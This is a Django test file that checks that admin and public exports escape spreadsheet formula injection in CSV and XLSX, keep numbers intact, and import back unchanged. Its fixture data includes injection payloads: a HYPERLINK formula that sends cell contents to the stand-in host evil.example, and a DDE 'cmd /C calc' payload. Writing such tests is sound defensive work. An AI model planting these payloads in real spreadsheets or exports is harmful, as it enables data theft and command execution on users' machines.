"""Formula injection, on the way out: text that a spreadsheet program would run (a cell
starting with = + - @, tab or carriage return) leaves the admin's exports and the public
downloads with a leading `'` in CSV and XLSX, numbers stay numbers, JSON carries the text
as it is, and the import takes the `'` off again, so a round trip changes nothing."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from deals.importer import import_file
from delegations.models import Organization
from tests.deals.test_export import CSV_FORMAT, JSON_FORMAT, XLSX_FORMAT
from tests.factories import OrganizationFactory, RegistrationFactory
from tests.pages import BEIJING_2019, beijing, json_rows, url
from tests.pages import csv_rows as download_rows

pytestmark = pytest.mark.django_db

# One name for each way a cell becomes a formula.
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=2+2",
}
# The import strips text of surrounding whitespace (the contract's rule), so these two
# come back without their tab or carriage return; the others come back as they were.
ROUND_TRIP = {name: text for name, text in FORMULAS.items() if not text[0].isspace()}
EXPORT_URL = "admin:delegations_organization_export"


@pytest.fixture
def organizations():
    """An organization per formula, each with a number in its yearly imports."""
    return {
        name: OrganizationFactory(
            name_zh=text, name_en=f"Company {name}", annual_imports_usd=Decimal("1500000")
        )
        for name, text in FORMULAS.items()
    }


def csv_rows(data: bytes) -> list[dict[str, str]]:
    # newline="": a carriage return inside a quoted cell is part of the cell.
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def exported(admin_client, file_format: str) -> bytes:
    response = admin_client.post(reverse(EXPORT_URL), {"format": file_format, "resource": "0"})
    assert response.status_code == 200
    return response.content


def test_the_admin_csv_export_escapes_every_formula_start_and_keeps_numbers(
    admin_client, organizations
):
    rows = {row["name_en"]: row for row in csv_rows(exported(admin_client, CSV_FORMAT))}

    for name, text in FORMULAS.items():
        row = rows[f"Company {name}"]
        assert row["name"] == "'" + text, name
        assert row["annual_imports_usd"] == "1500000.00"


def test_the_admin_xlsx_export_escapes_every_formula_start_as_text_and_keeps_numbers(
    admin_client, organizations
):
    sheet = openpyxl.load_workbook(io.BytesIO(exported(admin_client, XLSX_FORMAT))).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    rows = {
        row[header.index("name_en")].value: row
        for row in sheet.iter_rows(min_row=2)
        if row[header.index("name_en")].value
    }

    for name, text in FORMULAS.items():
        row = rows[f"Company {name}"]
        cell = row[header.index("name")]
        # XML reads a carriage return in text as a line feed, whoever parses it.
        assert cell.value == "'" + text.replace("\r", "\n"), name
        assert cell.data_type == "s"  # a string, never a formula ("f")
        imports = row[header.index("annual_imports_usd")]
        assert imports.value == 1500000
        assert imports.data_type == "n"


def test_the_admin_json_export_carries_the_cells_of_the_csv(admin_client, organizations):
    """The admin's JSON is the sheet's cells as the CSV has them (yes/no, amounts as
    text, formulas escaped); the public downloads' JSON carries the values themselves."""
    rows = {row["name_en"]: row for row in json.loads(exported(admin_client, JSON_FORMAT))}

    for name, text in FORMULAS.items():
        assert rows[f"Company {name}"]["name"] == "'" + text
        assert rows[f"Company {name}"]["annual_imports_usd"] == "1500000.00"


@pytest.mark.parametrize(("file_format", "suffix"), [(CSV_FORMAT, "csv"), (XLSX_FORMAT, "xlsx")])
def test_an_exported_formula_imports_back_as_the_text_it_was(
    admin_client, organizations, file_format, suffix
):
    Organization.objects.exclude(name_zh__in=ROUND_TRIP.values()).delete()
    data = exported(admin_client, file_format)

    again = import_file(data, filename=f"Organizations.{suffix}", dry_run=False)
    Organization.objects.all().delete()
    fresh = import_file(data, filename=f"Organizations.{suffix}", dry_run=False)

    assert again.ok and fresh.ok
    assert again.sheets["Organizations"].unchanged == len(ROUND_TRIP)
    assert set(Organization.objects.values_list("name_zh", flat=True)) == set(ROUND_TRIP.values())


def test_the_public_downloads_escape_formulas_in_csv_and_not_in_json(client, organizations):
    delegation = beijing()
    for organization in organizations.values():
        RegistrationFactory(delegation=delegation, organization=organization)

    csv_url = url("delegations:organizations_download", "zh-hans", format="csv", **BEIJING_2019)
    header, *rows = download_rows(client.get(csv_url))
    records = json_rows(
        client.get(url("delegations:organizations_download", format="json", **BEIJING_2019))
    )

    names = {row[header.index("英文名称")]: row[header.index("名称")] for row in rows}
    for name, text in FORMULAS.items():
        assert names[f"Company {name}"] == "'" + text, name
    assert {record["name_zh"] for record in records} == set(FORMULAS.values())
